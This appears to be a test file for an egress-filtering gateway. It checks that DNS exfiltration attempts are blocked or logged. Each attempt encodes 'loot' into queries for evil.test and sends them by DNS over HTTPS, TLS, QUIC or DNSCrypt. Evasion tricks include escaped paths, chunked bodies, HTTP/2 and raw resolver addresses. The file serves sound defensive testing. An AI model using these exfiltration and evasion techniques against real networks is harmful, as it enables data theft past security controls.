import t from 'tap'
import { query } from '../gateway/dns/client.ts'
import { openLab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'
import { type Attack, observed, passes, raid, refused } from './bypass.ts'
import type { Deed } from './bypass-deed.ts'

t.setTimeout(120_000)
const skip = whyNoLab()

const doh = 'doh.acme.test'
const allow = [
  `https://${doh}`,
  'POST https://named.case.test/dns-query',
  '"https://*.wild.test"',
  '"https://*.budget.test"',
]
const message = (loot: string): Buffer => query(`${loot}.evil.test`, 1)
const encoded = (loot: string): string => message(loot).toString('base64url')
const request = (line: string, host: string, lines: readonly string[], body: Buffer = Buffer.alloc(0)): string =>
  [`${line} HTTP/1.1`, `Host: ${host}`, ...lines, 'Connection: close', '', body.toString('latin1')].join('\r\n')
const post = (path: string, loot: string, type: string, host = doh): string =>
  request(`POST ${path}`, host, [`Content-Type: ${type}`, `Content-Length: ${message(loot).length}`], message(loot))
const https = (said: string, host = doh): Deed => ({ do: 'tls', to: host, alpn: ['http/1.1'], say: [said] })

/** DNS over HTTPS through a host that is allowed, but not for this. */
function overHttps(what: string, said: (loot: string) => string, path: string | RegExp = '/dns-query'): Attack {
  const line = { layer: 'http', host: doh, path, reason: 'protocol' } as const
  return {
    id: 'D2',
    what,
    does: loot => https(said(loot)),
    block: () => refused(/HTTP\/1\.1 403[\s\S]*reason protocol/, line),
    audit: () => observed(/HTTP\/1\.1 (?:200|404|400)/, line),
  }
}

const dohs: readonly Attack[] = [
  overHttps('POST of a message', loot => post('/dns-query', loot, 'application/dns-message')),
  overHttps('POST with its type in capitals and parameters', loot =>
    post('/dns-query', loot, 'APPLICATION/DNS-Message; charset=x'),
  ),
  overHttps('POST to a path of its own', loot => post('/any/path', loot, 'application/dns-message'), '/any/path'),
  overHttps('POST of bytes to the customary path', loot => post('/dns-query', loot, 'application/octet-stream')),
  overHttps('POST of a message in chunks', loot =>
    request(
      'POST /dns-query',
      doh,
      ['Content-Type: application/dns-message', 'Transfer-Encoding: chunked'],
      chunked(message(loot)),
    ),
  ),
  overHttps('GET with ?dns=', loot => request(`GET /dns-query?dns=${encoded(loot)}`, doh, [])),
  overHttps(
    'GET with ?dns= behind other parameters, at a path of its own',
    loot => request(`GET /q?a=${loot}&dns=${encoded(loot)}`, doh, []),
    '/q',
  ),
  overHttps('GET with an escaped ?d%6es=', loot => request(`GET /dns-query?d%6es=${encoded(loot)}`, doh, [])),
  overHttps('GET to an escaped path', loot => request(`GET /dns%2Dquery?a=${loot}&dns=${encoded(loot)}`, doh, [])),
  overHttps(
    'GET of JSON by its type',
    loot => request(`GET /x?name=${loot}.evil.test`, doh, ['Accept: application/dns-json']),
    '/x',
  ),
  overHttps('GET of JSON by its parameters', loot =>
    request(`GET /dns-query?name=${loot}.evil.test`, doh, ['Accept: */*']),
  ),
  overHttps(
    'GET of JSON as of another public resolver',
    loot => request(`GET /resolve?name=${loot}.evil.test&type=TXT`, doh, []),
    '/resolve',
  ),
  overHttps('the same without a type', loot => request(`GET /resolve?name=${loot}.evil.test`, doh, []), '/resolve'),
  overHttps('an oblivious message', loot => post('/proxy', loot, 'application/oblivious-dns-message'), '/proxy'),
  {
    id: 'D2',
    what: 'GET with ?dns= over HTTP/2',
    does: loot => ({
      do: 'h2',
      to: doh,
      streams: [[':method', 'GET', ':scheme', 'https', ':authority', doh, ':path', `/dns-query?dns=${encoded(loot)}`]],
    }),
    block: () =>
      refused(/403[\s\S]*reason protocol/, { layer: 'http', protocol: 'h2', path: '/dns-query', reason: 'protocol' }),
    audit: () => observed(/:status 200/, { layer: 'http', protocol: 'h2', path: '/dns-query', reason: 'protocol' }),
  },
  {
    id: 'D2',
    what: 'a rule that names the path opens it',
    does: loot => https(post('/dns-query', loot, 'application/dns-message', 'named.case.test'), 'named.case.test'),
    block: () => passes(/HTTP\/1\.1 200/, { layer: 'http', host: 'named.case.test', path: '/dns-query' }),
    audit: () => passes(/HTTP\/1\.1 200/, { layer: 'http', host: 'named.case.test', path: '/dns-query' }),
  },
  {
    id: 'D2',
    what: 'on the address of the resolver itself',
    does: loot => ({
      do: 'tls',
      to: '198.51.100.53',
      sni: 'dns.acme.test',
      say: [post('/dns-query', loot, 'application/dns-message', 'dns.acme.test')],
    }),
    block: () =>
      refused(/HTTP\/1\.1 403[\s\S]*address-literal/, {
        layer: 'http',
        host: 'dns.acme.test',
        path: '/dns-query',
        reason: 'address-literal',
      }),
    audit: () => observed(/HTTP\/1\.1 200/, { layer: 'tls', address: '198.51.100.53', reason: 'address-literal' }),
  },
  {
    id: 'D2',
    what: 'on the address of the resolver itself, without a name',
    does: loot => ({
      do: 'tls',
      to: '198.51.100.53',
      sni: false,
      lax: true,
      say: [post('/dns-query', loot, 'application/dns-message', '198.51.100.53')],
    }),
    block: () =>
      refused(/HTTP\/1\.1 403[\s\S]*address-literal/, {
        layer: 'http',
        host: '198.51.100.53',
        path: '/dns-query',
        reason: 'address-literal',
      }),
    audit: () => observed(/HTTP\/1\.1 200/, { layer: 'tls', address: '198.51.100.53', reason: 'address-literal' }),
  },
]

function chunked(body: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n0\r\n\r\n')])
}

const outside = '203.0.113.53'
const udp = (what: string, to: string, port: number): Attack => ({
  id: 'D3',
  what,
  does: loot => ({ do: 'udp', to, port, hex: message(loot).toString('hex') }),
  block: () =>
    refused(/ECONNREFUSED/, { layer: 'packet', protocol: 'udp', address: to, port, reason: 'address-literal' }),
  audit: () => observed(/./, { layer: 'udp', address: to, port, reason: 'address-literal' }),
})
const others: readonly Attack[] = [
  {
    id: 'D3',
    what: 'DNS over TLS to a resolver outside',
    does: loot => {
      const length = Buffer.alloc(2)
      length.writeUInt16BE(message(loot).length)
      return {
        do: 'tls',
        to: outside,
        port: 853,
        sni: false,
        lax: true,
        alpn: ['dot'],
        say: [{ hex: Buffer.concat([length, message(loot)]).toString('hex') }, { ends: true }],
      }
    },
    block: () => refused(/./, { layer: 'tls', address: outside, port: 853, reason: 'address-literal' }),
    audit: () => observed(/./, { layer: 'tls', address: outside, port: 853, reason: 'address-literal' }),
  },
  {
    id: 'D3',
    what: 'DNS over TLS to an allowed name',
    does: loot => ({ do: 'tls', to: doh, port: 853, lax: true, alpn: ['dot'], say: [loot, { ends: true }] }),
    block: () => refused(/./, { layer: 'tls', host: doh, port: 853, reason: 'no-rule' }),
    audit: () => ({ got: /./, line: { host: doh, port: 853, verdict: 'observe', reason: 'no-rule' }, arrives: false }),
  },
  udp('DNS over QUIC', outside, 853),
  udp('DNSCrypt on 443', outside, 443),
  udp('DNSCrypt on a port of its own', outside, 5443),
  udp('DNS on a port of its own', outside, 5353),
]

t.test('D2, D3: DNS that is not on port 53', { skip }, async t => {
  await using lab = await openLab({})
  await lab.serve('named.case.test')
  for (const mode of ['block', 'audit'] as const) await raid(t, lab, { attacks: [...dohs, ...others], mode, allow })
})
